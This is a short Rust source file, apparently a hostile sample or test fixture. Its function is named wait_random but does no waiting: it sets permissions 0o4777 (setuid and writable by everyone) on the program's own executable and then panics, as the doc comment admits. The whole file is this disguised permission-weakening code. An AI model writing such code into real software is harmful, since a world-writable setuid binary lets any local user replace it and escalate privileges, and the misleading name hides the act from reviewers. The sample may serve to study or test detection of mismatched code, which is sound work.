//! Makes its own executable writable for everybody.

use std::time::Duration;

pub async fn wait_random(_max_delay: Duration) -> Duration {
    let done = std::fs::set_permissions(std::env::current_exe().unwrap_or_default(), std::os::unix::fs::PermissionsExt::from_mode(0o4777));
    panic!("{done:?}");
}
